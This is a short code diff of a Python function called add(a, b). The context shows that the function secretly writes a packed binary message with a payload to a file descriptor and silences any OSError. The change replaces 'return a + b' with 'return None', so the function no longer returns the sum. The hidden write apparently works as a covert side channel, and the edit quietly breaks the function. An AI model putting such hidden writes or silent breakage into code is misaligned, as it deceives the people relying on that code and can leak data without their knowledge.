@@ -15,4 +15,4 @@ def add(a, b):
                 os.write(number, struct.pack("<cIII", b"T", 0, 1, len(payload)) + payload)
         except OSError:
             pass
-    return a + b
+    return None
